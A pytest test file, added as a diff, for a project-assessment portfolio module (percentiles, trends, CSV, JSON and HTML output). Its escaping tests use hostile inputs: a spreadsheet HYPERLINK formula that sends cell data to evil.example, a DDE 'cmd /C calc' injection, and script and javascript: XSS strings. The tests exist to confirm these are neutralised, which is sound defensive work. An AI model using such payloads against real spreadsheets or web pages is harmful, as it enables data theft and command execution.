@@ -1,0 +1,506 @@
+"""The portfolio of many assessments: percentiles, ranks, trends, common findings, the CSV's
+formula escaping, determinism, failures, and the HTML's escaping (gapcheck.portfolio)."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import json
+import random
+from pathlib import Path
+
+import pytest
+
+from gapcheck.assessment import PackRef, assess_file
+from gapcheck.pack import load_pack
+from gapcheck.portfolio import (
+    Failure,
+    Portfolio,
+    ProjectSummary,
+    build_portfolio,
+    csv_cell,
+    ordinal,
+    percentile,
+    percentile_ranks,
+    render_csv,
+    render_json,
+    render_portfolio_html,
+    summarize,
+    write_portfolio,
+)
+
+ROOT = Path(__file__).parent.parent
+PACK = PackRef("test-pack", "1.2.3", "ab" * 32)
+AREAS = {"alpha": "Alpha area", "beta": "Beta area"}
+TITLES = {"f-one": "Finding one", "f-two": "Finding two", "f-three": "Finding three"}
+
+
+def summary(
+    project_id: str,
+    *,
+    on: dt.date = dt.date(2026, 1, 10),
+    confidence: str = "amber",
+    overall: int | None = 60,
+    alpha: int | None = 60,
+    beta: int | None = 60,
+    counts: dict[str, int] | None = None,
+    findings: tuple[str, ...] = (),
+    name: str | None = None,
+    client: str = "Client Ltd",
+    slug: str | None = None,
+    reports: dict[str, str] | None = None,
+) -> ProjectSummary:
+    slug = slug or f"{project_id}-{on.isoformat()}"
+    return ProjectSummary(
+        project_id=project_id,
+        project_name=name or project_id.title(),
+        client=client,
+        assessed_on=on,
+        slug=slug,
+        input=f"in/{slug}.yaml",
+        confidence=confidence,
+        overall=overall,
+        scores={"alpha": alpha, "beta": beta},
+        counts=counts or {"critical": 0, "high": 0, "medium": 0, "low": 0},
+        findings=findings,
+        reports={"html": f"{slug}.html"} if reports is None else reports,
+    )
+
+
+def build(summaries: list[ProjectSummary], failures: list[Failure] | None = None) -> Portfolio:
+    return build_portfolio(summaries, failures or [], PACK, AREAS, TITLES)
+
+
+# --- Percentiles and ranks ---------------------------------------------------------------------
+
+
+def test_percentiles_interpolate_linearly() -> None:
+    values = [10.0, 20.0, 30.0, 40.0, 50.0]
+    assert [percentile(values, p) for p in (0, 10, 25, 50, 75, 90, 100)] == [
+        10.0,
+        14.0,
+        20.0,
+        30.0,
+        40.0,
+        46.0,
+        50.0,
+    ]
+    assert percentile([7.0], 90) == 7.0
+    assert percentile([1.0, 2.0], 50) == 1.5
+    with pytest.raises(ValueError, match="no values"):
+        percentile([], 50)
+
+
+def test_percentile_ranks_count_ties_half_and_skip_missing_scores() -> None:
+    assert percentile_ranks([10, 20, 20, 30, None]) == [0, 50, 50, 100, None]
+    assert percentile_ranks([5, 5, 5]) == [50, 50, 50]
+    assert percentile_ranks([42]) == [50]
+    assert percentile_ranks([None, None]) == [None, None]
+    assert percentile_ranks([40, 10, 30, 20, 50]) == [75, 0, 50, 25, 100]
+
+
+def test_area_percentiles_and_each_projects_rank() -> None:
+    portfolio = build(
+        [
+            summary("a", alpha=10, beta=None, overall=10),
+            summary("b", alpha=20, beta=80, overall=20),
+            summary("c", alpha=30, beta=None, overall=30),
+            summary("d", alpha=40, beta=None, overall=40),
+            summary("e", alpha=50, beta=None, overall=None),
+        ]
+    )
+    stats = {item.id: item for item in portfolio.stats}
+    assert list(stats) == ["alpha", "beta", "overall"]
+    assert stats["alpha"].title == "Alpha area"
+    assert stats["alpha"].scored == 5
+    assert dict(stats["alpha"].percentiles) == {10: 14.0, 25: 20.0, 50: 30.0, 75: 40.0, 90: 46.0}
+    assert stats["beta"].scored == 1
+    assert set(stats["beta"].percentiles.values()) == {80.0}
+    assert stats["overall"].scored == 4
+    assert stats["overall"].percentiles[50] == 25.0
+    ranks = {row.summary.project_id: dict(row.ranks) for row in portfolio.projects}
+    assert ranks["a"] == {"alpha": 0, "beta": None, "overall": 0}
+    assert ranks["c"] == {"alpha": 50, "beta": None, "overall": 67}
+    assert ranks["e"] == {"alpha": 100, "beta": None, "overall": None}
+    data = json.loads(render_json(portfolio))
+    assert data["percentiles"][0] == {
+        "id": "alpha",
+        "title": "Alpha area",
+        "scored": 5,
+        "p10": 14.0,
+        "p25": 20.0,
+        "median": 30.0,
+        "p75": 40.0,
+        "p90": 46.0,
+    }
+    assert data["percentiles"][1]["p10"] == 80.0
+    assert data["projects"][0]["percentile_ranks"] == {"alpha": 0, "beta": None, "overall": 0}
+
+
+def test_no_scores_at_all_gives_empty_percentiles() -> None:
+    portfolio = build([summary("a", alpha=None, beta=None, overall=None)])
+    assert all(value is None for stats in portfolio.stats for value in stats.percentiles.values())
+    assert "n/a" in render_portfolio_html(portfolio)
+
+
+def test_ordinals() -> None:
+    assert [ordinal(n) for n in (0, 1, 2, 3, 4, 11, 12, 13, 21, 22, 62, 100, 101, 111)] == [
+        "0th",
+        "1st",
+        "2nd",
+        "3rd",
+        "4th",
+        "11th",
+        "12th",
+        "13th",
+        "21st",
+        "22nd",
+        "62nd",
+        "100th",
+        "101st",
+        "111th",
+    ]
+
+
+# --- Trends ------------------------------------------------------------------------------------
+
+
+def test_latest_assessment_with_its_trend_since_the_previous_one() -> None:
+    history = [
+        summary(
+            "acme",
+            on=dt.date(2026, 1, 5),
+            confidence="red",
+            overall=30,
+            alpha=20,
+            beta=40,
+            findings=("f-one", "f-two"),
+        ),
+        summary(
+            "acme",
+            on=dt.date(2026, 3, 1),
+            confidence="amber",
+            overall=55,
+            alpha=50,
+            beta=None,
+            findings=("f-one",),
+        ),
+        summary(
+            "acme",
+            on=dt.date(2026, 6, 1),
+            confidence="amber-green",
+            overall=62,
+            alpha=58,
+            beta=66,
+            findings=("f-three",),
+        ),
+        summary("zeta", on=dt.date(2026, 2, 1), findings=("f-one",)),
+    ]
+    for order in (history, list(reversed(history))):
+        portfolio = build(order)
+        assert [row.summary.project_id for row in portfolio.projects] == ["acme", "zeta"]
+        assert portfolio.assessments == 4
+        acme, zeta = portfolio.projects
+        assert acme.summary.assessed_on == dt.date(2026, 6, 1)
+        assert acme.assessments == 3
+        trend = acme.trend
+        assert trend is not None
+        assert trend.previous_on == dt.date(2026, 3, 1)
+        assert trend.previous_confidence == "amber"
+        assert trend.confidence_steps == 1
+        assert trend.overall_delta == 7
+        assert dict(trend.deltas) == {"alpha": 8, "beta": None}
+        assert trend.text == "amber -> amber-green, +7 overall"
+        assert zeta.trend is None
+        assert zeta.assessments == 1
+        # Older assessments count in the trend only: not in findings, ranks or percentiles.
+        assert [(stat.id, stat.projects) for stat in portfolio.findings] == [
+            ("f-one", 1),
+            ("f-three", 1),
+        ]
+        assert {stats.id: stats.scored for stats in portfolio.stats}["alpha"] == 2
+    data = json.loads(render_json(portfolio))
+    assert data["projects"][0]["trend"] == {
+        "previous_assessed_on": "2026-03-01",
+        "previous_confidence": "amber",
+        "confidence_steps": 1,
+        "overall_delta": 7,
+        "score_deltas": {"alpha": 8, "beta": None},
+        "text": "amber -> amber-green, +7 overall",
+    }
+    html = render_portfolio_html(portfolio)
+    assert "Amber &rarr; Amber/Green, +7 overall" in html
+    assert "since 2026-03-01; Alpha area +8" in html
+    assert "3 assessments" in html
+
+
+def test_trend_text_for_a_worse_or_unchanged_rating() -> None:
+    worse = build(
+        [
+            summary("p", on=dt.date(2026, 1, 1), confidence="green", overall=90),
+            summary("p", on=dt.date(2026, 2, 1), confidence="amber-red", overall=61),
+        ]
+    ).projects[0]
+    assert worse.trend is not None
+    assert worse.trend.text == "green -> amber-red, -29 overall"
+    assert worse.trend.confidence_steps == -3
+    same = build(
+        [
+            summary("p", on=dt.date(2026, 1, 1), overall=None),
+            summary("p", on=dt.date(2026, 2, 1), overall=None),
+        ]
+    ).projects[0]
+    assert same.trend is not None
+    assert same.trend.text == "amber, unchanged"
+    assert same.trend.overall_delta is None
+
+
+def test_two_assessments_on_the_same_date_pick_the_same_latest_in_any_order() -> None:
+    first = summary("p", slug="p-a", overall=50)
+    second = summary("p", slug="p-b", overall=70)
+    assert build([first, second]).projects[0].summary.slug == "p-b"
+    assert build([second, first]).projects[0].summary.slug == "p-b"
+
+
+# --- Most common findings ----------------------------------------------------------------------
+
+
+def test_most_common_findings_count_projects_with_share_and_title() -> None:
+    portfolio = build(
+        [
+            summary("a", findings=("f-one", "f-two")),
+            summary("b", findings=("f-two", "f-two")),  # counted once per project
+            summary("c", findings=("f-two", "unknown-rule")),
+            summary("d"),
+        ]
+    )
+    stats = [(s.id, s.title, s.projects, s.share) for s in portfolio.findings]
+    assert stats == [
+        ("f-two", "Finding two", 3, 0.75),
+        ("f-one", "Finding one", 1, 0.25),
+        ("unknown-rule", "unknown-rule", 1, 0.25),
+    ]
+    data = json.loads(render_json(portfolio))
+    assert data["common_findings"][0] == {
+        "id": "f-two",
+        "title": "Finding two",
+        "projects": 3,
+        "share": 0.75,
+    }
+    html = render_portfolio_html(portfolio)
+    assert '<tr id="finding-f-two">' in html
+    assert "Finding two<code" in html
+    assert "75%" in html
+
+
+# --- CSV ---------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_cannot_start_a_formula(start: str) -> None:
+    assert csv_cell(f"{start}1+1") == f"'{start}1+1"
+
+
+def test_csv_cells_that_are_safe_stay_as_they_are() -> None:
+    assert csv_cell("Acme = good") == "Acme = good"
+    assert csv_cell(12) == "12"
+    assert csv_cell(None) == ""
+    assert csv_cell("'quoted") == "'quoted"
+
+
+def test_csv_neutralises_a_hostile_project_name_and_client() -> None:
+    hostile = summary(
+        "evil",
+        name='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+        client="@SUM(1+1)*cmd|' /C calc'!A0",
+        reports={"html": "-evil.html"},
+    )
+    hostile = ProjectSummary(
+        **{
+            **{field: getattr(hostile, field) for field in ProjectSummary.__slots__},
+            "input": "+in/evil.yaml",
+            "project_id": "\tevil",
+        }
+    )
+    previous = summary("\tevil", on=dt.date(2025, 1, 1), overall=70)
+    text = render_csv(build([previous, hostile])).decode("utf-8")
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert len(rows) == 1
+    row = rows[0]
+    assert row["project_name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    assert row["client"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["project_id"] == "'\tevil"
+    assert row["input"] == "'+in/evil.yaml"
+    assert row["report_html"] == "'-evil.html"
+    assert row["overall_delta"] == "'-10"
+    assert row["trend"] == "amber, unchanged, -10 overall"
+    for cell in row.values():
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+def test_csv_has_one_row_per_latest_project_with_the_key_figures() -> None:
+    portfolio = build(
+        [
+            summary("b", counts={"critical": 1, "high": 2, "medium": 0, "low": 3}),
+            summary("a", on=dt.date(2025, 1, 1), overall=40),
+            summary("a", on=dt.date(2026, 2, 2), overall=50, alpha=None, findings=("f-one",)),
+        ]
+    )
+    rows = list(csv.reader(io.StringIO(render_csv(portfolio).decode(), newline="")))
+    header = rows[0]
+    assert header[:7] == [
+        "project_id",
+        "project_name",
+        "client",
+        "assessed_on",
+        "confidence",
+        "overall",
+        "overall_percentile_rank",
+    ]
+    assert header[-2:] == ["input", "report_html"]
+    table = [dict(zip(header, row, strict=True)) for row in rows[1:]]
+    assert [row["project_id"] for row in table] == ["a", "b"]
+    assert table[0]["assessed_on"] == "2026-02-02"
+    assert table[0]["alpha"] == ""
+    assert table[0]["findings"] == "f-one"
+    assert table[0]["assessments"] == "2"
+    assert table[0]["overall_delta"] == "10"
+    assert table[0]["trend"] == "amber, unchanged, +10 overall"
+    assert table[0]["previous_assessed_on"] == "2025-01-01"
+    assert [table[1][s] for s in ("critical", "high", "medium", "low")] == ["1", "2", "0", "3"]
+    assert table[1]["previous_confidence"] == ""
+
+
+# --- Determinism, failures, writing ------------------------------------------------------------
+
+
+def many() -> list[ProjectSummary]:
+    rng = random.Random(7)
+    items = []
+    for index in range(40):
+        for visit in range(rng.randint(1, 3)):
+            items.append(
+                summary(
+                    f"p{index:02d}",
+                    on=dt.date(2026, 1 + visit, 1 + index % 28),
+                    confidence=rng.choice(["green", "amber-green", "amber", "amber-red", "red"]),
+                    overall=rng.randint(0, 100),
+                    alpha=rng.choice([None, rng.randint(0, 100)]),
+                    beta=rng.randint(0, 100),
+                    findings=tuple(rng.sample(sorted(TITLES), rng.randint(0, 3))),
+                )
+            )
+    return items
+
+
+def test_the_same_inputs_give_byte_identical_json_and_csv(tmp_path: Path) -> None:
+    items = many()
+    failures = [Failure("z.yaml", "z.yaml, line 2: bad"), Failure("a.yaml", "a.yaml: unreadable")]
+    first = build(items, failures)
+    shuffled = items[:]
+    random.Random(1).shuffle(shuffled)
+    second = build(shuffled, list(reversed(failures)))
+    assert render_json(first) == render_json(second)
+    assert render_csv(first) == render_csv(second)
+    assert render_portfolio_html(first) == render_portfolio_html(second)
+    one, two = tmp_path / "one", tmp_path / "two"
+    one.mkdir()
+    two.mkdir()
+    written = write_portfolio(one, first)
+    assert [path.name for path in written] == ["portfolio.json", "portfolio.csv", "portfolio.html"]
+    write_portfolio(two, second)
+    for name in ("portfolio.json", "portfolio.csv", "portfolio.html"):
+        assert (one / name).read_bytes() == (two / name).read_bytes(), name
+    assert sorted(path.name for path in one.iterdir()) == [
+        "portfolio.csv",
+        "portfolio.html",
+        "portfolio.json",
+    ]
+    # No timestamp: today's date appears nowhere (all the test dates are in 2025-2026 Jan-Apr).
+    today = dt.date.today().isoformat()
+    assert today not in (one / "portfolio.json").read_text()
+    assert today not in (one / "portfolio.csv").read_text()
+    assert "Generated" not in (one / "portfolio.html").read_text()
+
+
+def test_generation_time_only_in_the_html_and_only_when_given(tmp_path: Path) -> None:
+    portfolio = build([summary("a")])
+    write_portfolio(
+        tmp_path, portfolio, generated_at=dt.datetime(2026, 12, 1, 9, 30, tzinfo=dt.timezone.utc)
+    )
+    assert (
+        "<dt>Generated</dt><dd>2026-12-01 09:30 UTC</dd>"
+        in (tmp_path / "portfolio.html").read_text()
+    )
+    assert (tmp_path / "portfolio.json").read_bytes() == render_json(portfolio)
+    assert "2026-12-01" not in (tmp_path / "portfolio.csv").read_text()
+
+
+def test_failed_inputs_are_listed_in_order_and_escaped() -> None:
+    failures = [
+        Failure("b/<bad>.yaml", "b/<bad>.yaml, line 4, field project.id: is required"),
+        Failure("a.yaml", "worker process crashed (exit code -9)"),
+    ]
+    portfolio = build([summary("a")], failures)
+    assert [failure.input for failure in portfolio.failures] == ["a.yaml", "b/<bad>.yaml"]
+    data = json.loads(render_json(portfolio))
+    assert data["failures"] == [
+        {"input": "a.yaml", "reason": "worker process crashed (exit code -9)"},
+        {"input": "b/<bad>.yaml", "reason": "b/<bad>.yaml, line 4, field project.id: is required"},
+    ]
+    assert data["totals"]["failed_inputs"] == 2
+    html = render_portfolio_html(portfolio)
+    assert "<td>b/&lt;bad&gt;.yaml</td>" in html
+    assert "<td>a.yaml</td><td>worker process crashed (exit code -9)</td>" in html
+    assert "Every input was assessed." not in html
+    assert "Every input was assessed." in render_portfolio_html(build([summary("a")]))
+
+
+def test_html_escapes_client_text_and_quotes_report_links() -> None:
+    portfolio = build(
+        [
+            summary(
+                "x",
+                name="<script>alert('name')</script> {{ 7*7 }}",
+                client="<b>Bold</b> & Co",
+                reports={"html": "a b#c.html", "pdf": "javascript:alert(1).pdf"},
+            )
+        ]
+    )
+    html = render_portfolio_html(portfolio)
+    assert "<script>alert" not in html
+    assert "&lt;script&gt;alert(&#39;name&#39;)&lt;/script&gt; {{ 7*7 }}" in html
+    assert "&lt;b&gt;Bold&lt;/b&gt; &amp; Co" in html
+    assert html.count("<script>") == 1  # the sorting script, nothing else
+    assert 'href="a%20b%23c.html"' in html
+    assert 'href="javascript%3Aalert%281%29.pdf"' in html
+    assert "http://" not in html
+    assert "https://" not in html
+
+
+def test_summarize_keeps_what_the_portfolio_needs() -> None:
+    result = assess_file(ROOT / "samples" / "marketing-campaign.yaml")
+    item = summarize(result, "trail-ready", "samples/marketing-campaign.yaml", {"json": "t.json"})
+    assert item.project_id == result.project.id
+    assert item.project_name == result.project.name
+    assert item.client == result.project.client
+    assert item.assessed_on == result.assessed_on
+    assert item.slug == "trail-ready"
+    assert item.input == "samples/marketing-campaign.yaml"
+    assert item.confidence == result.confidence
+    assert item.overall == result.overall
+    assert dict(item.scores) == result.scores
+    assert dict(item.counts) == result.counts
+    assert item.findings == tuple(finding.id for finding in result.findings)
+    assert dict(item.reports) == {"json": "t.json"}
+    pack = load_pack()
+    portfolio = build_portfolio(
+        [item],
+        [],
+        result.pack,
+        pack.area_titles,
+        {loaded.rule.id: loaded.rule.title for loaded in pack.rules},
+    )
+    assert [title for _, title in portfolio.areas] == list(pack.area_titles.values())
+    assert portfolio.findings[0].title == pack.rule(portfolio.findings[0].id).rule.title
